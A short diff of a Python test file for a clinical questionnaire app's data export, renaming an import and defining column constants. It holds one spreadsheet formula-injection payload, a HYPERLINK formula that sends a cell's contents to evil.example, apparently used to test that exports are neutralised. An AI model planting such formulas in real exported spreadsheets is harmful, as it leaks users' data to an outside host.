@@ -16,7 +16,7 @@ from questionnaire.extensions import db
 from questionnaire.models import Flag, Submission
 from questionnaire.questions import catalogue
 from tests.conftest import Clock
-from tests.export import BLOOD_PRESSURE, NO_FLAGS, URGENT, load, make_clinician, submit
+from tests.exports import BLOOD_PRESSURE, NO_FLAGS, URGENT, load, make_clinician, submit
 
 FIRST_COLUMNS = ["reference", "submitted_at", "status", "highest_level", "outcome", "rules_version"]
 HYPERLINK = '=HYPERLINK("https://evil.example/?q="&A1,"Click me")'
